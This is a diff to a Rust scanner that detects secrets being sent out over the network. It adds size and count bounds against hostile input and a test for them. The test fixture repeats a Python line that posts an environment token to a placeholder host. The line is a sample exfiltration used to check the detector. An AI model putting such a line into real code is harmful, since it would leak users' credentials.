@@ -291,6 +291,12 @@ static SENDING_WORDS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
         .expect("valid keywords")
 });
 
+/// Hostile input can make a whole file one statement (a bracket never closed) full of calls:
+/// these bounds keep the work linear in practice.
+const MAX_CALLS_PER_STATEMENT: usize = 64;
+const MAX_CALL_BYTES: usize = 16 * 1024;
+const MAX_FLOWS_PER_UNIT: usize = 3;
+
 /// One flow found: the statement, the secrets and what was learnt about the destination.
 struct Flow {
     offset: usize,
@@ -372,11 +378,9 @@ pub fn check(units: &[Unit], out: &mut Vec<Finding>) {
         } else {
             (shell(unit, names), Vec::new())
         };
-        for flow in flows {
-            if let Some(f) = judge(unit, &flow, &declared) {
-                out.push(f);
-            }
-        }
+        // Like the data rules: a few findings per unit prove the point.
+        let judged = flows.iter().filter_map(|flow| judge(unit, flow, &declared));
+        out.extend(judged.take(MAX_FLOWS_PER_UNIT));
         for (offset, secrets) in bundles {
             let (line, col) = unit.position(offset);
             let mut f = finding(
@@ -549,6 +553,8 @@ fn statements(text: &str, python: bool) -> Vec<Statement<'_>> {
 fn call_arguments(text: &str, open: usize) -> &str {
     let mut depth = 1i32;
     let mut quote = None::<u8>;
+    let end = text.floor_char_boundary(open.saturating_add(MAX_CALL_BYTES).min(text.len()));
+    let text = &text[..end];
     let bytes = text.as_bytes();
     let mut i = open;
     while i < bytes.len() {
@@ -683,7 +689,7 @@ fn python(unit: &Unit, names: &mut BTreeMap<String, Value>) -> (Vec<Flow>, Bundl
         let text = st.text;
         // Sinks first: `r = requests.post(...)` sends before it assigns.
         let mut sent = false;
-        for call in PY_SINK.find_iter(text) {
+        for call in PY_SINK.find_iter(text).take(MAX_CALLS_PER_STATEMENT) {
             sent = true;
             let args = call_arguments(text, call.end());
             let callee = call.as_str();
@@ -969,7 +975,7 @@ fn shell(unit: &Unit, names: &mut BTreeMap<String, Value>) -> Vec<Flow> {
             let args = SH_CREDENTIAL_ARGS.replace_all(segment, " ");
             let mut value = shell_value(&args, names);
             if SH_READS_STDIN.is_match(segment) {
-                for earlier in &segments[..i] {
+                for earlier in &segments[i.saturating_sub(8)..i] {
                     let v = shell_value(earlier, names);
                     value.secrets.extend(v.secrets);
                 }
@@ -1319,6 +1325,16 @@ mod tests {
             "tar czf /tmp/site.tgz dist/\ncurl -F \"file=@/tmp/site.tgz\" https://deploy.example.dev/up\n",
         );
         assert!(build.is_empty(), "{build:#?}");
+    }
+
+    #[test]
+    fn an_unclosed_bracket_full_of_calls_is_bounded() {
+        let mut code = String::from("x = (\n");
+        for _ in 0..20_000 {
+            code.push_str("requests.post(\"https://a.example/x\", data=os.environ[\"A_TOKEN\"])\n");
+        }
+        let f = scan(Language::Python, &code);
+        assert_eq!(f.len(), MAX_FLOWS_PER_UNIT);
     }
 
     #[test]
